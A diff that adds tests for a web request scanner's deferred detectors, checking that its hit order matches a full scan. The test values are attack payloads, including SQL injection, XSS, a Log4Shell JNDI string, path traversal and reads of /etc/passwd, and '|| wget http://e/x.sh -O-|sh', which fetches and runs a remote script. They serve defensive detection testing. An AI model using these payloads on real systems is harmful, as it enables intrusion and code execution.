@@ -1,4 +1,5 @@
-import { scanValue, valuesScanned } from "./scan";
+import { scanValue, valuesScanned, hits, detectorsPending, scanDetectors, dropDetectors } from "./scan";
+import { RULE_ID } from "../rules/generated";
 import { engineFor } from "./engine";
 import { memoHits, refHits } from "./memo";
 import { DenyRulesSettings, dataTypeOf } from "../config/deny_rules";
@@ -38,5 +39,64 @@ describe("scanValue and the clean-value cache", () => {
     let attack = "1' UNION SELECT password FROM users--";
     expect(scanValue(s, e, attack, null, Source.Json, type, "")).toBeGreaterThan(0);
     expect(scanValue(s, e, "1' UNION SELECT " + "password FROM users--", null, Source.Json, type, "")).toBeGreaterThan(0);
+  });
+});
+
+// The hits of the last scan, in order, as "rule@level".
+function hitList(): Array<string> {
+  let out = new Array<string>();
+  for (let k = 0; k < hits.count; k++) out.push(RULE_ID[hits.rules[k]] + "@" + hits.levels[k].toString());
+  return out;
+}
+
+describe("scanValue with the detectors deferred", () => {
+  it("gives the pattern hits, then the detector hits: together the hits of one full scan, in order", () => {
+    let s = settings();
+    let e = s.engine!;
+    let values = [
+      "1' UNION SELECT username, password FROM users--", "<script>alert(document.cookie)</script>",
+      "x; cat /etc/passwd", "5 OR 1=1", "admin'--", "{{7*7}}", "javascript:alert(1)", "${jndi:ldap://e/a}",
+      "../../etc/passwd", "leather boots 42", "<img src=x onerror=alert(1)>", "|| wget http://e/x.sh -O-|sh",
+    ];
+    let locations = [Source.Query, Source.Json, Source.Header, Source.Cookie, Source.Path];
+    let deferred = 0;
+    for (let l = 0; l < locations.length; l++) {
+      let loc = locations[l];
+      let type = dataTypeOf(loc);
+      let header = loc == Source.Header ? "referer" : "";
+      for (let i = 0; i < values.length; i++) {
+        // Fresh objects each time, so no cache answers.
+        let v = values[i] + "";
+        v = v.substring(0);
+        scanValue(s, e, v + " ", null, loc, type, header);
+        let full = hitList();
+        let n = scanValue(s, e, v + " ", null, loc, type, header, true);
+        let first = hitList();
+        expect(n).toBe(first.length);
+        if (detectorsPending) {
+          deferred++;
+          expect(first.length).toBeGreaterThan(0);
+          scanDetectors(type);
+          expect(detectorsPending).toBe(false);
+          let rest = hitList();
+          for (let k = 0; k < rest.length; k++) first.push(rest[k]);
+        }
+        expect(first.join(",")).toBe(full.join(","), values[i]);
+      }
+    }
+    expect(deferred).toBeGreaterThan(10);
+  });
+
+  it("defers nothing when no pattern hits, and dropping deferred detectors leaves no state", () => {
+    let s = settings();
+    let e = s.engine!;
+    let type = dataTypeOf(Source.Query);
+    expect(scanValue(s, e, "plain words " + "only", null, Source.Query, type, "", true)).toBe(0);
+    expect(detectorsPending).toBe(false);
+    scanValue(s, e, "1' UNION SELECT a FROM b-" + "-", null, Source.Query, type, "", true);
+    expect(detectorsPending).toBe(true);
+    dropDetectors();
+    expect(detectorsPending).toBe(false);
+    expect(scanDetectors(type)).toBe(0);
   });
 });
